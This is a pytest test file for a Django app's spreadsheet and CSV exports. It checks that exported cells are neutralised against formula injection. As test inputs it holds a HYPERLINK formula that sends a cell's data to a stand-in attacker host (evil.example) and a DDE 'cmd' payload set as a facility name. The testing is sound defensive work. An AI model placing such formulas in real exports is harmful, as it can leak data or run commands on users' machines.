"""Spreadsheets the app writes show hostile text as text: no cell becomes a formula."""

import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from api.exports import records_csv
from rutan.spreadsheets import FORMULA_PREFIXES
from rutan.spreadsheets import safe_cell
from rutan.workbooks import HEADER_ROW
from rutan.workbooks import Column
from rutan.workbooks import sheet_add
from rutan.workbooks import workbook_bytes
from rutan.workbooks import workbook_new
from tests.factories import ParticipantFactory
from tests.rehab.reports_fixture import NOVEMBER
from tests.rehab.reports_fixture import build_known_month

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_every_formula_prefix(prefix):
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize(
    "value", [-5, 3, 2.5, Decimal("-1.5"), dt.date(2025, 11, 5), None, True, "Blok A", ""]
)
def test_it_leaves_numbers_dates_and_plain_text_alone(value):
    assert safe_cell(value) == value


# Anything a form accepts: every character but NUL (Django refuses it) and lone surrogates
# (not UTF-8: no request can carry them), control characters and formula prefixes included.
FORM_TEXT = st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=60
).map(lambda text: text.strip())


@settings(max_examples=200, deadline=None)
@given(values=st.lists(FORM_TEXT, min_size=1, max_size=4))
def test_any_text_a_form_accepts_is_written_to_a_workbook_as_text(values):
    workbook = workbook_new(title="Uji")
    sheet_add(
        workbook,
        name="Data",
        title="Uji",
        subtitle=values[0],
        columns=[Column("a")],
        rows=[[value] for value in values],
    )
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(workbook)))["Data"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert not [cell for cell in cells if str(cell.value).startswith(FORMULA_PREFIXES)]


@pytest.mark.parametrize("control", ["\x01", "\x0b", "\x1f", "\x08"])
def test_it_drops_control_characters_before_looking_for_a_formula(control):
    assert safe_cell(f"{control}=1+1") == "'=1+1"
    assert safe_cell(f"Blok{control}A") == "BlokA"


def test_it_keeps_tabs_and_line_breaks_inside_text_and_cuts_at_the_cell_limit():
    assert safe_cell("baris 1\nbaris\t2\r") == "baris 1\nbaris\t2\r"
    assert len(safe_cell("W" * 40_000)) == 32_767


def test_the_csv_records_drop_control_characters_too():
    lines = list(records_csv([["\x01=1", "Blok\x0bA"]]))
    assert lines[1] == "'=1,BlokA\r\n"


@pytest.mark.django_db
def test_the_participant_export_keeps_a_name_with_a_control_character(client, petugas):
    ParticipantFactory(facility=petugas.facility, name="Budi\x01 Santoso", cell_block="\x0bA")
    client.force_login(petugas)
    response = client.get(reverse("participants:export"))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = list(sheet.iter_rows(min_row=HEADER_ROW + 1, max_row=HEADER_ROW + 1))[0]
    assert (row[2].value, row[5].value) == ("Budi Santoso", "A")


@pytest.mark.django_db
def test_the_participant_export_reads_back_a_formula_name_as_text(client, petugas):
    ParticipantFactory(facility=petugas.facility, name=HOSTILE, cell_block="+SUM(A1:A9)")
    client.force_login(petugas)
    response = client.get(reverse("participants:export"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    first = HEADER_ROW + 1
    row = list(sheet.iter_rows(min_row=first, max_row=first))[0]
    name, block = row[2], row[5]
    assert name.data_type == "s" and name.value == "'" + HOSTILE
    assert block.data_type == "s" and block.value == "'+SUM(A1:A9)"
    assert isinstance(row[4].value, dt.datetime)  # the birth date stays a date


@pytest.mark.django_db
def test_the_monthly_report_workbook_keeps_numbers_and_neutralises_text(
    client, kepala, facility, other_facility
):
    build_known_month(facility, other_facility)
    facility.name = "=cmd|' /C calc'!A0"
    facility.save()
    client.force_login(kepala)
    response = client.get(
        reverse("rehab:report_monthly_xlsx", args=[facility.code, NOVEMBER.year, NOVEMBER.month])
    )
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    subtitle = workbook.worksheets[0]["A2"].value
    assert subtitle.startswith("'=cmd")
    assert any(cell.data_type == "n" and isinstance(cell.value, int) for cell in cells)
